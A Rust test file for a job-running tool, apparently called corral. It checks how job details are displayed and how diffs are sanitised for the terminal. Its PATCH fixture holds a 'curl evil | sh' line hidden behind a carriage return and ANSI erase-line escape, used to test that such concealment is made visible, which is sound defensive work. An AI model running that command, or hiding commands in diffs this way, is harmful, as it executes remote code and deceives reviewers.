//! Tests of a job's details and of diffs.

use corral_proto::{
    Grant, Isolation, IsolationKind, IsolationLevel, Job, JobMode, JobState, Limits, ProjectMode,
    ReviewOutcome, Reviewed,
};
use time::macros::datetime;

use super::{detail_fields, visible_diff};

const PATCH: &str = "diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n\
                     -echo hi\n+curl evil | sh\r\x1b[2Kecho hi\n";

#[test]
fn a_carriage_return_in_a_diff_line_cannot_hide_it() {
    let shown = visible_diff(PATCH, false);
    assert!(shown.contains("+curl evil | sh^M^[[2Kecho hi\n"), "{shown}");
    assert!(!shown.contains(['\r', '\x1b']), "{shown:?}");
}

#[test]
fn corrals_own_colours_stay_and_the_jobs_are_shown() {
    let shown = visible_diff(PATCH, true);
    assert!(
        shown.contains("\x1b[32m+curl evil | sh^M^[[2Kecho hi\x1b[0m\n"),
        "{shown:?}"
    );
    assert!(shown.contains("\x1b[31m-echo hi\x1b[0m\n"), "{shown:?}");
    assert!(shown.contains("\x1b[36m@@ -1 +1 @@\x1b[0m\n"), "{shown:?}");
    let escapes = shown.matches('\x1b').count();
    assert_eq!(escapes, 2 * 6, "only corral's: {shown:?}");
}

#[test]
fn a_patch_without_a_final_newline_gets_none() {
    assert_eq!(visible_diff("+a\n+b", false), "+a\n+b");
}

fn limits() -> Limits {
    Limits {
        memory_bytes: 2 << 30,
        idle_timeout_secs: 5400,
        ..crate::output::fixtures::LIMITS
    }
}

#[test]
fn show_names_isolation_project_mode_review_branch_grants_and_duration() {
    let job = Job {
        state: JobState::Succeeded,
        prompt: Some("fix the build\nthen run the tests".into()),
        project: Some("/home/me/app".into()),
        project_mode: ProjectMode::Branch,
        isolation: Some(Isolation {
            kind: IsolationKind::Git,
            workspace: "/data/ws".into(),
            base: None,
            branch: Some("corral/j-0123456789abcdef".into()),
            reviewed: Some(Reviewed {
                outcome: ReviewOutcome::Applied,
                at: datetime!(2026-12-01 18:00:00 UTC),
            }),
        }),
        isolation_level: IsolationLevel::Gvisor,
        grants: vec![Grant {
            secret: "GITHUB_TOKEN".into(),
            env: "GH_TOKEN".into(),
        }],
        interactive: true,
        container_id: Some("a".repeat(64)),
        created_at: datetime!(2026-12-01 17:47:10.5 UTC),
        started_at: Some(datetime!(2026-12-01 17:47:11 UTC)),
        finished_at: Some(datetime!(2026-12-01 17:48:16 UTC)),
        ..Job::queued(
            "j-0123456789abcdef".into(),
            JobMode::Claude,
            "corral/claude".into(),
            limits(),
        )
    };
    let fields = detail_fields(&job, datetime!(2030-01-01 0:00 UTC));
    let field = |key: &str| {
        fields.iter().find(|(name, _)| *name == key).map_or_else(
            || panic!("no {key} in {fields:?}"),
            |(_, value)| value.as_str(),
        )
    };
    assert_eq!(field("isolation"), "gvisor");
    assert_eq!(field("project mode"), "isolate");
    assert_eq!(
        field("review"),
        "branch corral/j-0123456789abcdef, applied 2026-12-01 18:00:00 UTC"
    );
    assert_eq!(field("grants"), "GITHUB_TOKEN", "names only");
    assert_eq!(field("container"), "aaaaaaaaaaaa");
    assert_eq!(field("prompt"), "fix the build …");
    assert_eq!(field("memory"), "2g");
    assert_eq!(field("timeout"), "10m");
    assert_eq!(field("idle timeout"), "1h30m");
    assert_eq!(field("created"), "2026-12-01 17:47:10 UTC");
    assert_eq!(field("finished"), "2026-12-01 17:48:16 UTC");
    assert_eq!(field("duration"), "1m05s");
    assert!(
        fields.iter().all(|(name, _)| *name != "command"),
        "no command: {fields:?}"
    );
}
